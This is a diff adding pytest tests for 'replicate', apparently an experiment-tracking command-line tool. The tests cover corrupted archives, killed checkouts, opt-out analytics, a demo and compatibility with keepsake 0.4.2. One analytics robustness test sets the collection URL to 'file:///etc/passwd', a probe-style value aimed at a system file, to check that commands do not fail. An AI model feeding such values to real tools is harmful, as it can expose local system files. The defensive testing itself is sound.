+        for name in ("one", "two"):
+            member = tarfile.TarInfo("%s/%s" % (A, name))
+            member.size = 4
+            archive.addfile(member, io.BytesIO(name.encode() + b"!"))
+    pieces = [gzip.compress(tar.getvalue()[:1024]), gzip.compress(tar.getvalue()[1024:])]
+    path = project / "repo/experiments" / (A + ".tar.gz")
+    path.parent.mkdir()
+    path.write_bytes(b"".join(pieces))
+    assert call("checkout", A, "-o", "whole")[0] == 0 and tree(project / "whole") == {"one": b"one!", "two": b"two!"}
+    path.write_bytes(pieces[0])
+    code, _, err = call("checkout", A, "-o", "cut")
+    assert code == 1 and A[:7] in err and not (project / "cut").exists()
+
+
+def test_our_own_archive_cut_anywhere_is_damaged(project, call):
+    (project / "data").mkdir()
+    for name in "abc":
+        (project / "data" / name).write_bytes(os.urandom(1500))
+    run_script("import replicate\nwith replicate.init(path='data', quiet=True): pass")
+    (path,) = (project / "repo/experiments").iterdir()
+    data, item = path.read_bytes(), path.name.split(".")[0]
+    for length in sorted({0, 1, 10, len(data) - 1, len(data) - 8, *range(0, len(data), max(1, len(data) // 40)),
+                          *(match.start() for match in re.finditer(b"\x1f\x8b\x08", data))}):
+        path.write_bytes(data[:length])
+        code, _, err = call("checkout", item, "-o", "out%d" % length)
+        if code == 0:  # cut behind the end of the tar, where nothing but our table of contents is
+            assert tree(project / ("out%d" % length)) == {"data/" + name: content for name, content in tree(project / "data").items()}
+        else:
+            assert code == 1 and item[:7] in err and not (project / ("out%d" % length)).exists(), length
+
+
+@pytest.mark.parametrize("damage", ["cut", "flipped", "not gzip", "empty", "checksum", "garbage after"])
+def test_nothing_is_written_for_a_damaged_archive(project, call, damage):
+    experiment, first, _ = recorded(project)
+    path = project / "repo/checkpoints" / (first + ".tar.gz")
+    data = bytearray(path.read_bytes())
+    if damage == "cut":
+        data = data[:len(data) * 2 // 3]
+    elif damage == "flipped":
+        data[len(data) // 3] ^= 0xff
+    elif damage == "not gzip":
+        data = bytearray(b"not gzip at all" * 100)
+    elif damage == "empty":
+        data = bytearray()
+    elif damage == "checksum":
+        tar = io.BytesIO()
+        with tarfile.open(fileobj=tar, mode="w") as archive:
+            member = tarfile.TarInfo(first + "/train.py")
+            member.size = 4
+            archive.addfile(member, io.BytesIO(b"evil"))
+        data = bytearray(gzip.compress(tar.getvalue()))
+        data[-8] ^= 0xff
+    else:
+        data += b"garbage"
+    path.write_bytes(bytes(data))
+    (project / "train.py").write_text("mine")
+    before = snapshot(project)
+    code, out, err = call("checkout", first, "-f")
+    assert (code, out) == (1, "") and first[:7] in err and "Traceback" not in err and "unexpected" not in err, err
+    assert snapshot(project) == before
+    assert call("checkout", first, "-o", "fresh")[0] == 1 and not (project / "fresh").exists()
+
+
+KILLED_CHECKOUT = """
+    import os, signal, sys, replicate
+    name, left = sys.argv[1], int(sys.argv[2])
+    real = getattr(os, name)
+    def killing(path, *rest, **more):
+        global left
+        if replicate.STAGING_PREFIX in str(path):
+            left -= 1
+            if left < 0:
+                os.kill(os.getpid(), signal.SIGKILL)
+        return real(path, *rest, **more)
+    setattr(os, name, killing)
+    sys.exit(replicate.main(sys.argv[3:]))
+    """
+
+
+@pytest.mark.parametrize("function, count", [("chmod", 0), ("chmod", 2), ("replace", 0), ("replace", 1), ("replace", 2)])
+def test_a_killed_checkout_can_be_run_again_and_leaves_nothing_behind(project, function, count):
+    experiment, first, _ = recorded(project)
+    (project / "out/data").mkdir(parents=True)
+    (project / "out/data/in.txt").write_text("mine")
+    killed = run_script(KILLED_CHECKOUT, function, count, "checkout", first, "-f", "-o", "out", check=False)
+    assert killed.returncode == -signal.SIGKILL, killed.stderr
+    whole = {"train.py": b"code\n", "data/in.txt": b"data of checkpoint 0", "model/weights": b"weights 0",
+             "replicate.yaml": b"repository: file://repo\n"}
+    for name, content in tree(project / "out").items():
+        if replicate.STAGING_PREFIX not in name:
+            assert content in (whole[name], b"mine")
+    assert run("checkout", first, "-f", "-o", "out").returncode == 0
+    assert tree(project / "out") == whole
+    assert not [name for name in os.listdir(project / "out") if name.startswith(replicate.STAGING_PREFIX)]
+
+
+# -- analytics and feedback
+
+@pytest.fixture
+def collector(monkeypatch):
+    """An HTTP server on loopback: .url, and .posts, a queue of (path, headers, parsed JSON)."""
+    import http.server
+    import queue
+
+    class Handler(http.server.BaseHTTPRequestHandler):
+        def do_POST(self):
+            body = self.rfile.read(int(self.headers["Content-Length"]))
+            self.server.posts.put((self.path, dict(self.headers), json.loads(body)))
+            self.send_response(200)
+            self.end_headers()
+
+        def log_message(self, *arguments):
+            pass
+
+    server = http.server.ThreadingHTTPServer(("127.0.0.1", 0), Handler)
+    server.posts, server.url = queue.Queue(), "http://127.0.0.1:%d/collect" % server.server_port
+    thread = threading.Thread(target=server.serve_forever, daemon=True)
+    thread.start()
+    for name in ("no_proxy", "NO_PROXY"):
+        monkeypatch.setenv(name, "127.0.0.1")
+    yield server
+    server.shutdown()
+    thread.join()
+    server.server_close()
+
+
+@pytest.fixture
+def settings(tmp_path):
+    """Where the program keeps its settings."""
+    return tmp_path / "home/.config/replicate"
+
+
+def test_without_a_url_nothing_of_analytics_exists(project, call, settings):
+    two_experiments(project)
+    for _ in range(17):
+        assert call("ls", "-q")[2] == ""
+    assert not settings.exists()
+
+
+def test_the_first_run_only_explains(project, call, settings, collector, monkeypatch):
+    monkeypatch.setenv("REPLICATE_ANALYTICS_URL", collector.url)
+    two_experiments(project)
+    code, out, err = call("ls", "-q")
+    assert (code, out) == (0, A + "\n" + B + "\n") and collector.url in err and "replicate analytics off" in err
+    assert os.stat(settings / "settings.json").st_mode & 0o777 == 0o600
+    assert not (settings / "events.json").exists()
+    assert call("ls", "-q")[2] == ""
+    assert len(json.loads((settings / "events.json").read_text())) == 1
+    assert os.stat(settings / "events.json").st_mode & 0o777 == 0o600
+
+
+def test_events_are_sent_after_fifteen(project, call, settings, collector, monkeypatch):
+    import platform
+    monkeypatch.setenv("REPLICATE_ANALYTICS_URL", collector.url)
+    two_experiments(project)
+    call("ls")
+    for number in range(15):
+        assert call(*(["list", "-q"] if number % 2 else ["show", A]))[0] == 0
+    path, headers, events = collector.posts.get(timeout=60)
+    assert path == "/collect" and headers["Content-Type"] == "application/json" and len(events) == 15
+    token = json.loads((settings / "settings.json").read_text())["anonymous_id"]
+    assert re.fullmatch("[0-9a-f]{8}(-[0-9a-f]{4}){3}-[0-9a-f]{12}", token)
+    for number, event in enumerate(events):
+        replicate.parse_time(event["properties"].pop("timestamp"))
+        assert event == {"anonymous_id": token, "event": event["event"], "properties": {
+            "command": "replicate ls" if number % 2 else "replicate show", "replicate_version": replicate.__version__,
+            "operating_system": sys.platform, "cpu_architecture": platform.machine()}}
+        assert isinstance(event["event"], str)
+    assert collector.posts.empty()
+
+
+def test_events_are_not_sent_before_there_are_fifteen(project, call, monkeypatch):
+    monkeypatch.setenv("REPLICATE_ANALYTICS_URL", "http://127.0.0.1:1/")
+    sent = []
+    monkeypatch.setattr(replicate.Analytics, "_send_in_background", lambda self: sent.append(len(self._events())))
+    for _ in range(16):
+        call("help", "ls")
+        call("analytics", "on")
+        call("ls")
+    assert sent == [15, 16]
+
+
+def test_events_are_sent_after_five_minutes(project, call, settings, collector, monkeypatch):
+    monkeypatch.setenv("REPLICATE_ANALYTICS_URL", collector.url)
+    call("ls")
+    call("ls")
+    events = json.loads((settings / "events.json").read_text())
+    events[0]["properties"]["timestamp"] = replicate.timestamp(time.time() - 301)
+    (settings / "events.json").write_text(json.dumps(events))
+    call("ls")
+    assert len(collector.posts.get(timeout=60)[2]) == 2
+
+
+@pytest.mark.parametrize("variable", ["REPLICATE_NO_ANALYTICS", "DO_NOT_TRACK", None])
+def test_analytics_can_be_switched_off(project, call, settings, collector, monkeypatch, variable):
+    monkeypatch.setenv("REPLICATE_ANALYTICS_URL", collector.url)
+    if variable:
+        monkeypatch.setenv(variable, "1")
+    else:
+        assert call("analytics", "off")[0] == 0
+        assert json.loads((settings / "settings.json").read_text())["analytics_enabled"] is False
+    for _ in range(17):
+        assert collector.url not in call("ls")[2]
+    assert not (settings / "events.json").exists() and collector.posts.empty()
+    assert "off" in call("analytics")[1]
+    if not variable:
+        assert call("analytics", "on")[0] == 0
+        call("ls")
+        assert (settings / "events.json").exists() and "are on" in call("analytics")[1]
+
+
+def test_the_analytics_command_prints_the_state_and_is_not_tracked(project, call, settings, collector, monkeypatch):
+    code, out, err = call("analytics")
+    example = json.loads(out[out.index("{"):])
+    assert code == 0 and set(example) == {"anonymous_id", "event", "properties"}
+    assert set(example["properties"]) == {"command", "replicate_version", "operating_system", "cpu_architecture", "timestamp"}
+    assert not settings.exists()
+    monkeypatch.setenv("REPLICATE_ANALYTICS_URL", collector.url)
+    for _ in range(3):
+        call("analytics")
+        call("analytics", "on")
+    assert not (settings / "events.json").exists()
+    assert collector.url in call("analytics")[1]
+
+
+def test_analytics_follow_xdg_config_home(project, call, settings, tmp_path, monkeypatch):
+    monkeypatch.setenv("XDG_CONFIG_HOME", str(tmp_path / "xdg"))
+    assert call("analytics", "off")[0] == 0
+    assert (tmp_path / "xdg/replicate/settings.json").exists() and not settings.exists()
+
+
+def test_analytics_never_fail_a_command(project, call, settings, monkeypatch, tmp_path):
+    monkeypatch.setenv("REPLICATE_ANALYTICS_URL", "http://127.0.0.1:1/")
+    call("ls")
+    event = replicate.Analytics().event("ls", "token")
+    for content in (b"{", b"[1, 2]", b'[{"properties": 1}]', json.dumps([event] * 500).encode()):
+        (settings / "events.json").write_bytes(content)
+        assert call("ls") == (0, "", "═══╡ No experiments found\n")
+        if (settings / "events.json").exists():
+            assert len(json.loads((settings / "events.json").read_text())) <= 100
+    (settings / "settings.json").write_text("[")
+    assert call("ls")[0] == 0
+    monkeypatch.setenv("XDG_CONFIG_HOME", str(project / "replicate.yaml"))
+    assert call("ls")[:2] == (0, "")
+    monkeypatch.setenv("REPLICATE_ANALYTICS_URL", "file:///etc/passwd")
+    assert call("ls")[:2] == (0, "")
+
+
+def test_feedback_is_posted(project, collector, monkeypatch):
+    monkeypatch.setenv("REPLICATE_FEEDBACK_URL", collector.url)
+    for arguments, text in ((["feedback", "it", "is good"], ""), (["feedback"], "it is good\n")):
+        done = run(*arguments, input=text)
+        assert (done.returncode, done.stdout) == (0, "")
+        content = collector.posts.get(timeout=60)[2]
+        assert "it is good" in content.values() and replicate.__version__ in content.values()
+    terminal = Terminal("feedback").expect("?").send("from a terminal\n")
+    assert terminal.wait() == 0 and "from a terminal" in collector.posts.get(timeout=60)[2].values()
+
+
+def test_feedback_without_a_url_is_printed_ready_to_paste(project):
+    done = run("feedback", input="it is\ngood")
+    assert done.returncode == 0 and "it is\ngood" in json.loads(done.stdout).values() and "REPLICATE_FEEDBACK_URL" in done.stderr
+    for arguments, text in ((["feedback"], " \n"), (["feedback", ""], "")):
+        done = run(*arguments, input=text)
+        assert (done.returncode, done.stdout) == (1, "")
+
+
+def test_feedback_that_cannot_be_sent_is_an_error(project):
+    done = run("feedback", "hello", env={"REPLICATE_FEEDBACK_URL": "http://127.0.0.1:1/", "no_proxy": "127.0.0.1"})
+    assert done.returncode == 1 and "127.0.0.1:1" in done.stderr and "Traceback" not in done.stderr
+
+
+# -- demo
+
+@pytest.fixture(scope="module")
+def bare_python(tmp_path_factory):
+    """A Python of its own with nothing installed."""
+    directory = tmp_path_factory.mktemp("bare") / "venv"
+    subprocess.run([sys.executable, "-m", "venv", "--without-pip", str(directory)], check=True)
+    python = directory / "bin/python"
+    assert subprocess.run([str(python), "-c", "import yaml"], env={}, capture_output=True).returncode == 1
+    return str(python)
+
+
+def test_the_demo_works_with_a_bare_python_and_its_commands_as_pasted(bare_python, tmp_path):
+    (tmp_path / "empty folder").mkdir()
+    cwd = tmp_path / "empty folder"
+    shutil.copy(PROGRAM, cwd)
+    environment = {name: value for name, value in os.environ.items() if name != "PYTHONPATH"}
+
+    def shell(command):
+        return subprocess.run(command, shell=True, cwd=cwd, env=environment, capture_output=True, text=True)
+
+    done = shell("%s replicate.py demo" % bare_python)
+    assert done.returncode == 0, done.stderr
+    documents = stored_documents(cwd / "replicate-demo/.replicate/storage")
+    assert len(documents) == 4 and all(len(document["checkpoints"]) >= 2 for document in documents)
+    assert len({json.dumps(document["params"]) for document in documents}) == 4
+    assert all(document["id"][:7] in done.stdout for document in documents)
+    assert len((cwd / "replicate-demo/train.py").read_text().splitlines()) <= 30
+    commands = [line.strip() for line in done.stdout.split("\n") if " -D " in line]
+    assert len(commands) >= 3
+    for command in commands:
+        pasted = shell(command)
+        assert pasted.returncode == 0, (command, pasted.stderr)
+        assert pasted.stdout or "checkout" in command
+    assert "train.py" in tree(cwd / "replicate-demo/best")
+    again = shell("%s replicate.py demo" % bare_python)
+    assert again.returncode == 0 and len(stored_documents(cwd / "replicate-demo/.replicate/storage")) == 4
+
+
+def test_the_demo_never_writes_into_a_folder_that_is_there(project, call):
+    (project / "mine").mkdir()
+    before = snapshot(project)
+    code, out, err = call("demo", "mine")
+    assert code == 1 and "mine" in err and snapshot(project) == before
+
+
+# ------------------------------------------------------------------------------------------------------------------
+# 12  Compatibility with the peer, keepsake 0.4.2
+# ------------------------------------------------------------------------------------------------------------------
+
+class Peer:
+    """The real peer in a virtual environment: its command line and its Python library."""
+
+    def __init__(self, directory):
+        self.directory = Path(directory)
+
+    def __call__(self, *arguments, check=True, cwd=None):
+        done = subprocess.run([str(self.directory / "bin/keepsake"), *map(str, arguments)], cwd=cwd, capture_output=True,
+                              text=True, encoding="utf-8", stdin=subprocess.DEVNULL, timeout=120)
+        assert not check or done.returncode == 0, done.stderr
+        return done
+
+    def start(self, source, **settings):
+        """A training script with the peer's library, as a running process."""
+        environment = {name: value for name, value in os.environ.items() if name != "PYTHONPATH"}
+        environment["PATH"] = "%s:%s" % (self.directory / "bin", environment["PATH"])
+        return subprocess.Popen([str(self.directory / "bin/python"), "-c", textwrap.dedent(source)], env=environment,
+                                stdin=subprocess.PIPE, stdout=subprocess.PIPE, stderr=subprocess.PIPE, text=True, **settings)
+
+    def record(self, source, **settings):
+        process = self.start(source, **settings)
+        _, errors = process.communicate(timeout=120)
+        assert process.returncode == 0, errors
+
+
+@pytest.fixture
+def peer(project, monkeypatch):
+    """The peer beside the program, in the same project; it does not phone home."""
+    directory = os.environ.get("REPLICATE_PEER", PEER)
+    if not directory or not os.path.exists(os.path.join(directory, "bin/keepsake")):
+        pytest.skip("REPLICATE_PEER names no virtual environment with keepsake 0.4.2")
+    (project / "keepsake.yaml").write_text("repository: file://repo\n")
+    monkeypatch.setenv("NO_COLOR", "1")
+    found = Peer(directory)
+    found("analytics", "off")
+    return found
+
+
+PEER = os.environ.get("REPLICATE_PEER")  # before the fixture `sealed` hides it
+
+RECORDING = """
+    import os, replicate
+    experiment = replicate.init(path="code", params={
+        "int": 1, "float": 0.25, "text": "héllo", "none": None, "true": True, "nested": {"a": [1, {"b": None}]}, "nan": float("nan"),
+        "inf": float("inf"), "huge": 2**53 + 1, "empty": "", "None": "None", "list": [1.5, "x"]}, quiet=True)
+    for step in range(3):
+        open("out/weights.bin", "wb").write(os.urandom(1500000) + bytes(200000))
+        open("out/log.txt", "w").write("step %d" % step)
+        experiment.checkpoint(path="out", step=step, metrics={"loss": 1 / (step + 2), "nan": float("nan"), "text": "x"},
+                              primary_metric=("loss", "minimize"), quiet=True)
+    experiment.checkpoint(step=9, metrics={"loss": float("-inf"), "nan": 2, "text": "yy"}, primary_metric=("loss", "minimize"),
+                          quiet=True)
+    experiment.stop()
+    """
+
+
+def files_of_every_kind(project):
+    """Code with many files and directories, empty ones, long and unicode names."""
+    (project / "out").mkdir()
+    for name in ["code/train.py", "code/empty", "code/deep/er/and/er/module.py", "code/ünï/日本.txt", "code/" + "n" * 150 + ".txt",
+                 "code/" + "/".join("d" * 60 for _ in range(4)) + "/f"] + ["code/many/%04d.txt" % i for i in range(300)]:
+        (project / name).parent.mkdir(parents=True, exist_ok=True)
+        (project / name).write_text("" if name.endswith("empty") else "content of " + name)
+
+
+def stripped(text):
+    """Lines without the spaces at their ends: the peer pads its last column."""
+    return [line.rstrip() for line in text.split("\n")]
+
+
+def timeless(text):
+    """The cells of a table without its relative times, which change from one second to the next."""
+    return cells(re.sub(r"(about an?|one|\d+) \w+ ago", "TIME", text))
+
+
+def shown(text):
+    """`show` without what the two print differently: column width, how NaN is written, and the list of packages."""
+    text = "\n".join(re.sub(" +", " ", line).strip() for line in text.split("\n"))
+    text = re.sub("(?is)\nPython packages\n.*?\n\n", "\n", text)
+    return re.sub(r'"\[(NaN|[+-]Inf)(inity)?\]"', r"\1", text).strip()
+
+
+def test_the_peer_reads_what_we_record(project, peer):
+    files_of_every_kind(project)
+    run_script(RECORDING)
+    (document,) = stored_documents(project / "repo")
+    experiment, checkpoints = document["id"], [item["id"] for item in document["checkpoints"]]
+    assert peer("ls", "-q").stdout == experiment + "\n"
+    (theirs,), (ours,) = json.loads(peer("ls", "--json").stdout), json.loads(run("ls", "--json").stdout)
+    for key in ("id", "command", "user", "host", "running"):
+        assert theirs.get(key) == ours[key], key
+    assert theirs["params"] == dict(ours["params"], **{"None": None})  # the peer takes this string for null
+    assert theirs["num_checkpoints"] == 4 and theirs["latest_checkpoint"]["id"] == checkpoints[3]
+    assert theirs["best_checkpoint"]["id"] == ours["best_checkpoint"]["id"]
+    for item in (checkpoints[0], checkpoints[3]):
+        assert shown(peer("show", item).stdout).replace("None: null", "None: None") == shown(run("show", item).stdout)
+    rows = timeless(run("show", experiment).stdout)
+    assert rows[-6:-1] == timeless(peer("show", experiment).stdout)[-9:-4] and rows[-5][0] == checkpoints[0][:7]
+    assert "Command" not in peer("diff", checkpoints[0], checkpoints[1]).stdout
+    for number, item in enumerate(checkpoints):
+        peer("checkout", "-f", item, "-o", "peer%d" % number)
+        assert run("checkout", "-f", item, "-o", "ours%d" % number).returncode == 0
+        assert tree(project / ("peer%d" % number)) == tree(project / ("ours%d" % number))
+        expected = {"code/" + name: content for name, content in tree(project / "code").items()}
+        got = tree(project / ("peer%d" % number))
+        assert {name: content for name, content in got.items() if name.startswith("code/")} == expected
+        assert len(got) == len(expected) + (2 if number < 3 else 0)
+    assert tree(project / "peer2")["out/weights.bin"] == (project / "out/weights.bin").read_bytes()
+
+
+def test_the_peer_removes_what_we_record(project, peer):
+    files_of_every_kind(project)
+    run_script(RECORDING)
+    (document,) = stored_documents(project / "repo")
+    first = document["checkpoints"][0]["id"]
+    peer("rm", "-f", first)
+    assert not (project / "repo/checkpoints" / (first + ".tar.gz")).exists()
+    assert run("ls").returncode == 0 and run("show", document["id"]).returncode == 0
+    code = run("checkout", first, "-o", "out2")
+    assert code.returncode == 1 and ("gone" in code.stderr or "not found" in code.stderr)
+    peer("rm", "-f", document["id"])
+    assert run("ls", "-q").stdout == ""
+    left = set(tree(project / "repo"))
+    assert not any(document["id"] in name for name in left), left
+
+
+def test_big_ints_do_not_stop_the_peer(project, peer):
+    run_script("import replicate\n"
+               "with replicate.init(params={'a': 2**63, 'b': 2**70, 'c': -2**63, 'd': 2**63 - 1}, quiet=True) as experiment:\n"
+               "    experiment.checkpoint(metrics={'m': 2**70}, quiet=True)")
+    item = stored_documents(project / "repo")[0]["id"]
+    assert peer("ls", "-q").stdout == item + "\n"
+    assert json.loads(run("ls", "--json").stdout)[0]["params"] == {"a": 2 ** 63, "b": 2 ** 70, "c": -2 ** 63, "d": 2 ** 63 - 1}
+    assert "9223372036854775807" in peer("show", item).stdout and "9223372036854775808" in run("show", item).stdout
+
+
+PEER_RECORDING = """
+    import keepsake, os
+    experiment = keepsake.init(path="code", params={
+        "int": 1, "float": 0.25, "text": "héllo", "none": None, "true": True, "nested": {"a": [1, {"b": None}]}, "big": 2**53 + 1,
+        "list": [1.5, "x"]})
+    for step in range(3):
+        open("out/weights.bin", "wb").write(os.urandom(300000) + bytes(200000))
+        open("out/log.txt", "w").write("step %d" % step)
+        experiment.checkpoint(path="out", step=step, metrics={"loss": 1 / (step + 1), "nan": float("nan"), "inf": float("inf")},
+                              primary_metric=("loss", "minimize"))
+    experiment.checkpoint(step=9, metrics={"loss": 7.0, "nan": 2}, primary_metric=("loss", "minimize"))
+    experiment.stop()
+    """
+
+
+def test_we_read_what_the_peer_records(project, peer, call):
+    files_of_every_kind(project)
+    peer.record(PEER_RECORDING)
+    (document,) = stored_documents(project / "repo")
+    experiment, checkpoints = document["id"], [item["id"] for item in document["checkpoints"]]
+    (theirs,), (ours,) = json.loads(peer("ls", "--json").stdout), json.loads(call("ls", "--json")[1])
+    assert {key: theirs.get(key) for key in ours if "checkpoint" not in key} == {
+        key: value for key, value in ours.items() if "checkpoint" not in key}
+    assert ours["best_checkpoint"]["id"] == theirs["best_checkpoint"]["id"] == checkpoints[2]
+    assert ours["latest_checkpoint"]["id"] == theirs["latest_checkpoint"]["id"] == checkpoints[3]
+    assert timeless(peer("ls").stdout) == timeless(call("ls")[1])
+    for item in (checkpoints[0], checkpoints[3]):
+        assert shown(peer("show", item).stdout) == shown(call("show", item)[1])
+    for number, item in enumerate(checkpoints):
+        peer("checkout", "-f", item, "-o", "peer%d" % number)
+        assert call("checkout", item, "-o", "ours%d" % number)[0] == 0
+        assert tree(project / ("peer%d" % number)) == tree(project / ("ours%d" % number))
+    assert tree(project / "ours0")["code/ünï/日本.txt"] == "content of code/ünï/日本.txt".encode()
+    assert call("diff", checkpoints[0], checkpoints[1])[0] == 0
+    found = replicate.experiments.get(experiment)
+    assert found.replicate_version == "0.4.2" and found.checkpoints[0].open("out/log.txt").read() == b"step 0"
+    assert call("rm", "-f", checkpoints[0])[0] == 0
+    assert json.loads(peer("ls", "--json").stdout)[0]["num_checkpoints"] == 3
+    assert call("rm", "-f", experiment)[0] == 0
+    assert peer("ls", "-q").stdout == "" and set(tree(project / "repo")) == {"repository.json"}
+
+
+def test_diff_of_both_programs(project, peer, call):
+    write_repository(project / "repo",
+                     experiment_document(A, params={"lr": 0.1, "only": "x", "same": 1}, checkpoints=SPECIFICATION_CHECKPOINTS),
+                     experiment_document(B, params={"lr": 0.2, "same": 1, "param-3": "hi" * 40}, user="ben",
+                                         python_packages={"foo": "2.0"}, checkpoints=[
+                                             checkpoint_document(hex_id("5c"), step=5, metrics={"metric-1": 0.5}, path="data")]))
+    assert stripped(peer("diff", C, hex_id("5c")).stdout)[:-1] == stripped(call("diff", C, hex_id("5c"))[1])
+
+
+def test_a_running_experiment_of_the_peer_is_shown_running(project, peer, call):
+    process = peer.start("import keepsake\nexperiment = keepsake.init()\nexperiment.checkpoint(step=1)\nprint('on', flush=True)\ninput()\n"
+                         "experiment.stop()")
+    try:
+        assert process.stdout.readline() == "on\n"
+        for _ in range(600):
+            if stored_documents(project / "repo") and (project / "repo/metadata/heartbeats").is_dir() and \
+                    list((project / "repo/metadata/heartbeats").iterdir()):
+                break
+            time.sleep(0.1)
+        item = stored_documents(project / "repo")[0]["id"]
+        assert call("ps", "-q") == (0, item + "\n", "")
+        assert peer("ps", "-q").stdout == item + "\n"
+    finally:
+        process.communicate("\n", timeout=60)
+    assert call("ps", "-q")[1] == ""
+
+
+def test_our_running_experiment_is_shown_running_by_the_peer(project, peer):
+    process = subprocess.Popen([sys.executable, "-c", "import replicate\nexperiment = replicate.init(quiet=True)\nprint('on', flush=True)\n"
+                                "input()\nexperiment.stop()"], stdin=subprocess.PIPE, stdout=subprocess.PIPE, text=True)
+    try:
+        assert process.stdout.readline() == "on\n"
+        item = stored_documents(project / "repo")[0]["id"]
+        assert peer("ps", "-q").stdout == run("ps", "-q").stdout == item + "\n"
+    finally:
+        process.communicate("\n", timeout=60)
+    assert peer("ps", "-q").stdout == run("ps", "-q").stdout == ""
+
+
+def test_the_peer_lists_while_we_record(project, peer):
+    """Whatever moment the peer reads at, it finds whole documents and archives."""
+    (project / "model").write_bytes(os.urandom(100000))
+    process = subprocess.Popen([sys.executable, "-c", textwrap.dedent("""
+        import replicate, sys
+        experiment = replicate.init(path="model", quiet=True)
+        for step in range(200):
+            experiment.checkpoint(path="model", step=step, metrics={"x": step}, quiet=True)
+        """)])
+    seen = 0
+    while process.poll() is None:
+        if (project / "repo/metadata/experiments").is_dir() and stored_documents(project / "repo"):
+            done = peer("ls", "--json")
+            assert done.stderr == ""
+            seen += len(json.loads(done.stdout))
+    assert process.returncode == 0 and seen
+    assert json.loads(peer("ls", "--json").stdout)[0]["num_checkpoints"] == 200
+
+
+NUMBERS = [0.0, -0.0, 1.0, -1.5, 0.1, 1 / 3, 1e-5, 9.9999e-5, 0.0001, 1.23456789e-10, 12345.678, 99999.4, 99999.9, 100000.0, 100000.5,
+           123456.789, 1234567.0, 1e6, 1e7, 123456789.125, 1e15, 1e16, 2.0 ** 53, 1e19, 9.9e19, 1e20, 1.5e20, 1e21, 1e22, 1.7e308, 5e-324,
+           -1e5, -123456.789, -1e10, 0.30000000000000004, 2.5, 1e5 + 1e-9, 3.14159265358979, 1e100]
+
+
+def test_numbers_look_as_the_peer_prints_them(project, peer, call):
+    values = NUMBERS + [int(number) for number in NUMBERS if abs(number) < 2 ** 62 and number == int(number)] + [2 ** 63 - 1, -2 ** 63]
+    values += ["x" * 20, "x" * 21, "x" * 17, "", "é" * 9, True, False, None, "[NaN]", "[+Infinity]", "[-Infinity]"]
+    write_repository(project / "repo", experiment_document(A, params={"p%03d" % number: value for number, value in enumerate(values)}))
+    assert stripped(peer("ls", "--all").stdout) == stripped(call("ls", "--all")[1])
+
+
+def test_times_look_as_the_peer_prints_them(project, peer, call):
+    now = time.time()
+    ages = [0, 5, 29, 31, 45, 58.2, 65, 85, 95, 200, 44 * 60, 55 * 60, 65 * 60, 85 * 60, 100 * 60, 5 * 3600, 20 * 3600, 22 * 3600, 25 * 3600,
+            35 * 3600, 37 * 3600, 47 * 3600, 49 * 3600, 71 * 3600, 72.5 * 3600, 74 * 3600, 900 * 3600]
+    write_repository(project / "repo", *(experiment_document("%064x" % number, created=replicate.timestamp(now - age))
+                                         for number, age in enumerate(ages, 1)))
+
+    def started(text):
+        return {line[:7]: line[12:30].split("  ")[0].strip() for line in text.split("\n")[1:] if line.strip()}
+    for _ in range(5):  # the clock may tick between the two
+        theirs, ours = started(peer("ls", "--sort", "started").stdout), started(call("ls")[1])
+        if theirs == ours:
+            break
+    assert theirs == ours
+
+
+@pytest.mark.parametrize("filters", [["lr > 0.15"], ["name = adam"], ["name != adam"], ["step >= 1"], ["status = stopped"], ["user = ben"],
+                                     ["loss < 0.3"], ["lr = 0.1", "loss < 1"], ["foo foo = bar bar"]], ids=str)
+def test_filters_select_what_the_peer_selects(project, peer, call, filters):
+    write_repository(
+        project / "repo", experiment_document(A, params={"lr": 0.1, "name": "adam", "foo foo": "bar bar"}, checkpoints=[
+            checkpoint_document(C, step=1, metrics={"loss": 0.2}, primary=("loss", "minimize"))]),
+        experiment_document(B, created="2006-01-02T14:55:05Z", user="ben", params={"lr": 0.2, "name": "sgd", "foo foo": "x"}, checkpoints=[
+            checkpoint_document(D, step=2, metrics={"loss": 0.4}, primary=("loss", "minimize"))]))
+    flags = [flag for text in filters for flag in ("-f", text)]
+    assert peer("ls", "-q", *flags).stdout == call("ls", "-q", *flags)[1]
+
+
+# ------------------------------------------------------------------------------------------------------------------
+# 13  Packaging and start-up
+# ------------------------------------------------------------------------------------------------------------------
+
+REAL_HOME = os.environ.get("HOME", "/")  # package managers have their settings and caches there
+HEAVY = {"yaml", "boto3", "botocore", "google.cloud", "ssl", "numpy", "matplotlib", "sqlite3", "asyncio", "multiprocessing", "concurrent",
+         "urllib.request", "http", "unittest", "email", "xml", "ctypes"}
+
+
+def imported(*arguments):
+    """The modules that running the command (or, without arguments, importing the library) adds to a plain Python's."""
+    body = "import replicate" if not arguments else (
+        "sys.argv = ['replicate.py', *sys.argv[1:]]\n"
+        "with contextlib.suppress(SystemExit):\n    runpy.run_path(%r, run_name='__main__')" % str(PROGRAM))
+    done = run_script("import contextlib, runpy, sys\nbefore = set(sys.modules)\n%s\nprint(*sorted(set(sys.modules) - before), file=sys.stderr)"
+                      % body, *arguments)
+    return set(done.stderr.split("\n")[-2].split())
+
+
+@pytest.mark.parametrize("arguments", [[], ["--version"], ["--help"], ["ls"], ["ls", "--json"], ["show", A]], ids=lambda words: "-".join(words) or "import")
+def test_what_is_imported(project, arguments):
+    two_experiments(project, checkpoints=[checkpoint_document(C, metrics={"x": 1})])
+    modules = imported(*arguments)
+    heavy = HEAVY | ({"argparse", "json", "tarfile"} if arguments in ([], ["--version"]) else set())
+    assert not {name for name in modules if name in heavy or name.split(".")[0] in heavy}
+    if not arguments:
+        assert "replicate" in modules
+
+
+def test_yaml_is_imported_only_for_rich_configurations(project):
+    (project / "replicate.yaml").unlink()
+    (project / ".replicate/storage").mkdir(parents=True)
+    assert "yaml" not in imported("ls")
+    (project / "replicate.yaml").write_text("# comment\nrepository: 'file://repo'  # comment\n")
+    assert "yaml" not in imported("ls")
+    (project / "replicate.yaml").write_text("repository: >-\n  file://repo\n")
+    assert "yaml" in imported("ls")
+
+
+def test_run_as_a_module(project):
+    done = subprocess.run([sys.executable, "-m", "replicate", "--version"], capture_output=True, text=True)
+    assert (done.returncode, done.stdout) == (0, "replicate %s\n" % replicate.__version__)
+    two_experiments(project)
+    assert subprocess.run([sys.executable, "-m", "replicate", "ls", "-q"], capture_output=True, text=True).stdout == A + "\n" + B + "\n"
+
+
+def test_a_copy_of_the_file_is_all_that_is_needed(bare_python, tmp_path):
+    shutil.copy(PROGRAM, tmp_path / "copy.py")
+    done = subprocess.run([bare_python, "-I", str(tmp_path / "copy.py"), "--help"], capture_output=True, text=True)
+    assert done.returncode == 0 and "checkout" in done.stdout
